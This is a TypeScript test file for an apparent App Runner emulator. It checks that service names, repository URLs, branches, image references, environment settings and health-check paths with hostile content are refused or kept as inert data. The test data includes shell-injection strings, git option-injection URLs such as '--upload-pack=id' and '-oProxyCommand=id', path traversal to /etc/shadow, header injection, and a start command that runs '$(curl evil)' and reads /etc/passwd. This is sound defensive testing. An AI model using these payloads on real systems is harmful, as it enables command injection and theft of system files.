import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { CreateServiceRequest } from '@aws-sdk/client-apprunner';
import { testContext } from '../test-context.ts';
import { call, codeSource, createdService, imageSource } from './test-calls.ts';

const invalid = { code: 'InvalidRequestException' };

/** Every one of these must be refused by CreateService, and leave nothing behind. */
function refuseAll(requests: readonly Partial<CreateServiceRequest & { name: string }>[]): void {
  const context = testContext();
  for (const request of requests) {
    assert.throws(() => createdService(context, request), invalid, JSON.stringify(request));
  }
  assert.equal(context.store.services.count({}), 0);
}

const ofImage = (ImageIdentifier: string) => ({
  SourceConfiguration: { ImageRepository: { ImageIdentifier, ImageRepositoryType: 'ECR' as const } },
});
const ofCode = (change: object) => ({
  SourceConfiguration: { CodeRepository: { ...codeSource.CodeRepository, ...change } },
});
const ofRun = (change: object) => ({
  SourceConfiguration: {
    ImageRepository: { ...imageSource.ImageRepository, ImageConfiguration: { Port: '8000', ...change } },
  },
});

const shellTricks = [
  '$(id)',
  '`id`',
  '; id',
  '| id',
  '&& id',
  '> /tmp/x',
  "' id",
  '" id',
  '\n id',
  '\0',
  ' id',
];

describe('hostile input', () => {
  test('failure class 1: a service name with anything but letters, digits, - and _ is refused', () => {
    refuseAll(shellTricks.map((trick) => ({ name: `shop${trick}` })));
    refuseAll(['-shop', '../shop', 'sh/op', 'shöp', 'shop ', 'a'.repeat(41)].map((name) => ({ name })));
  });

  test('failure class 2: a repository URL that git could take for an option, a helper or a command is refused', () => {
    refuseAll(
      [
        ...shellTricks.map((trick) => `https://git.example.com/team/shop${trick}`),
        '--upload-pack=id',
        '-u',
        'ext::sh -c id',
        'fd::17',
        'ssh://-oProxyCommand=id/team/shop',
        'ssh://git@-oProxyCommand=id/team/shop',
        'git@-oProxyCommand=id:team/shop',
        'git@git.example.com:--upload-pack=id',
        'git@git.example.com:-u',
        'https://git.example.com/-u/../../etc',
        'file:///srv/../etc/shadow',
        'file:///srv/%2e%2e/etc/shadow',
        'file://server/share',
        'git://git.example.com/shop',
        '/srv/shop.git',
        './shop',
        'https://git.example.com',
        `apron://uploads/../${'0'.repeat(64)}`,
        `apron://uploads/${'0'.repeat(63)}`,
        `https://git.example.com/${'a'.repeat(3000)}`,
        '',
      ].map((RepositoryUrl) => ofCode({ RepositoryUrl })),
    );
  });

  test('failure class 2: the repository URLs that people use are accepted', () => {
    const context = testContext();
    const urls = [
      'https://github.com/team/shop',
      'https://git.example.com:8443/team/shop.git',
      'http://127.0.0.1:3000/shop',
      'https://[::1]:3000/team/shop',
      'ssh://git@git.example.com:2222/team/shop.git',
      'git@github.com:team/shop.git',
      'file:///srv/git/shop.git',
      `apron://uploads/${'0a'.repeat(32)}`,
    ];
    for (const [index, RepositoryUrl] of urls.entries()) {
      createdService(context, { name: `shop-${index}`, ...ofCode({ RepositoryUrl }) });
    }
  });

  test('failure class 30: a repository URL with credentials in it is refused, since DescribeService would show them', () => {
    for (const RepositoryUrl of ['https://user:t0ken@github.com/a/b', 'https://t0ken@github.com/a/b']) {
      assert.throws(() => createdService(testContext(), ofCode({ RepositoryUrl })), {
        ...invalid,
        message: /must not contain credentials/,
      });
    }
  });

  test('failure class 2: a branch that is no branch name is refused', () => {
    refuseAll(
      [
        ...shellTricks.map((trick) => `main${trick}`),
        '-u',
        '--upload-pack=id',
        '../main',
        'main..next',
        'main@{1}',
        'main.lock',
        '.hidden',
        'main/',
        'a//b',
        '',
      ].map((Value) => ofCode({ SourceCodeVersion: { Type: 'BRANCH', Value } })),
    );
    const context = testContext();
    for (const [index, Value] of ['main', 'feature/#12-a_b+c', '0'.repeat(40), 'v1.2.3'].entries()) {
      createdService(context, {
        name: `shop-${index}`,
        ...ofCode({ SourceCodeVersion: { Type: 'BRANCH', Value } }),
      });
    }
  });

  test('failure class 2: a source directory that leaves the repository is refused', () => {
    refuseAll(
      [
        'web',
        '../web',
        '/../etc',
        '/web/../../etc',
        '/web/..',
        '/./web',
        '//etc',
        '/a\\b',
        '/web\n',
        '/\0',
      ].map((SourceDirectory) => ofCode({ SourceDirectory })),
    );
    createdService(testContext(), ofCode({ SourceDirectory: '/apps/web shop' }));
  });

  test('failure class 3: an image identifier that is no OCI reference is refused', () => {
    refuseAll(
      [
        ...shellTricks.map((trick) => `shop:1${trick}`),
        '-v /:/host shop',
        '--privileged',
        '../shop',
        '/shop',
        'Shop',
        'shop:',
        'shop@sha256:abc',
        'registry.example.com/',
        'http://registry.example.com/shop',
        'shop:1:2',
        `shop:${'a'.repeat(129)}`,
        'a'.repeat(1025),
      ].map(ofImage),
    );
    const context = testContext();
    const references = [
      'shop',
      'shop:1',
      'localhost:5000/team/shop:dev',
      'ghcr.io/team/shop__web@sha256:' + 'ab'.repeat(32),
      '123456789012.dkr.ecr.eu-west-1.amazonaws.com/team/shop:v1.0',
      'public.ecr.aws/aws-containers/hello-app-runner:latest',
      'registry.example.com/team/a-b.c/shop:1@sha256:' + '0'.repeat(64),
    ];
    for (const [index, reference] of references.entries()) {
      createdService(context, { name: `shop-${index}`, ...ofImage(reference) });
    }
  });

  test('failure class 5: build and start commands have one line, and reach the store as they were written', () => {
    refuseAll(
      ['node a.js\nid', 'node a.js\rid', '', ' ', 'a\0b'].map((StartCommand) => ofRun({ StartCommand })),
    );
    const context = testContext();
    const StartCommand = 'sh -c "$(curl evil) && `id`; cat < /etc/passwd | tee $HOME"';
    createdService(context, ofRun({ StartCommand }));
    const source = context.store.services.list({})[0]?.settings.source.source;
    assert.equal(source?.kind === 'image' && source.run.startCommand, StartCommand);
  });

  test('failure class 7: an environment name with shell metacharacters is refused, in variables and in secrets', () => {
    const names = [...shellTricks.map((trick) => `A${trick}`), '', '1A', 'A=B', '-A', 'Ä'];
    refuseAll(names.map((name) => ofRun({ RuntimeEnvironmentVariables: { [name]: 'value' } })));
    refuseAll(names.map((name) => ofRun({ RuntimeEnvironmentSecrets: { [name]: 'parameter' } })));
  });

  test('failure class 7: an environment value with shell metacharacters is inert data', () => {
    const context = testContext();
    const RuntimeEnvironmentVariables = Object.fromEntries(
      shellTricks.filter((trick) => trick !== '\0').map((trick, index) => [`TRICK_${index}`, trick]),
    );
    const ServiceArn = createdService(context, ofRun({ RuntimeEnvironmentVariables }));
    const { Service } = call(context, 'DescribeService', { ServiceArn });
    assert.deepEqual(
      Service?.SourceConfiguration?.ImageRepository?.ImageConfiguration?.RuntimeEnvironmentVariables,
      RuntimeEnvironmentVariables,
    );
    refuseAll([
      ofRun({ RuntimeEnvironmentVariables: { NAME: 'a\0b' } }),
      ofRun({ RuntimeEnvironmentVariables: { NAME: 'ä'.repeat(51_201) } }),
      ofRun({ RuntimeEnvironmentVariables: { NAME: '€'.repeat(50_000) } }),
    ]);
  });

  test('reserved names, and a name that is both variable and secret, are refused', () => {
    refuseAll([
      ofRun({ RuntimeEnvironmentVariables: { PORT: '80' } }),
      ofRun({ RuntimeEnvironmentSecrets: { PORT: 'parameter' } }),
      ofRun({ RuntimeEnvironmentVariables: { AWSAPPRUNNER_X: '1' } }),
      ofRun({ RuntimeEnvironmentVariables: { A: '1' }, RuntimeEnvironmentSecrets: { A: 'parameter' } }),
    ]);
  });

  test('a refused environment never shows a value in the error', () => {
    const RuntimeEnvironmentVariables = { 'BAD NAME': 'correct horse', PORT: 'battery staple' };
    assert.throws(
      () => createdService(testContext(), ofRun({ RuntimeEnvironmentVariables })),
      (error: Error) => {
        assert.doesNotMatch(error.message, /correct horse|battery staple/);
        return true;
      },
    );
  });

  test('a port is a number from 1 to 65535', () => {
    refuseAll(['0', '65536', '-1', '80a', '8e1', ' 80', ''].map((Port) => ofRun({ Port })));
  });

  test('a health check path cannot break out of its request line', () => {
    refuseAll(
      ['health', '/a b', '/a\r\nHost: evil', '/ä', ''].map((Path) => ({
        HealthCheckConfiguration: { Path },
      })),
    );
  });
});

describe('secret references', () => {
  test('Secrets Manager ARNs with and without a JSON key, parameter ARNs and parameter names are accepted', () => {
    const context = testContext();
    const RuntimeEnvironmentSecrets = {
      WHOLE: 'arn:aws:secretsmanager:us-east-1:123456789012:secret:shop/db-AbCdEf',
      KEY: 'arn:aws:secretsmanager:us-east-1:123456789012:secret:shop/db-AbCdEf:password::',
      STAGE: 'arn:aws:secretsmanager:us-east-1:123456789012:secret:shop/db-AbCdEf:password:AWSPREVIOUS:',
      PARAMETER: 'arn:aws:ssm:eu-west-1:123456789012:parameter/shop/db',
      NAME: '/shop/db',
      BARE: 'shop-db',
    };
    createdService(context, ofRun({ RuntimeEnvironmentSecrets }));
  });

  test('what is no reference is refused, and so is another account’s secret', () => {
    refuseAll(
      [
        '',
        'a b',
        '$(id)',
        '/a//b',
        'arn:aws:s3:::bucket',
        'arn:aws:secretsmanager:us-east-1:123456789012:secret:shop:password',
        'arn:aws:secretsmanager:us-east-1:999999999999:secret:shop-AbCdEf',
        'arn:aws:ssm:us-east-1:999999999999:parameter/shop',
        'arn:aws:ssm:us-east-1:123456789012:parameter/',
      ].map((reference) => ofRun({ RuntimeEnvironmentSecrets: { SECRET: reference } })),
    );
  });
});
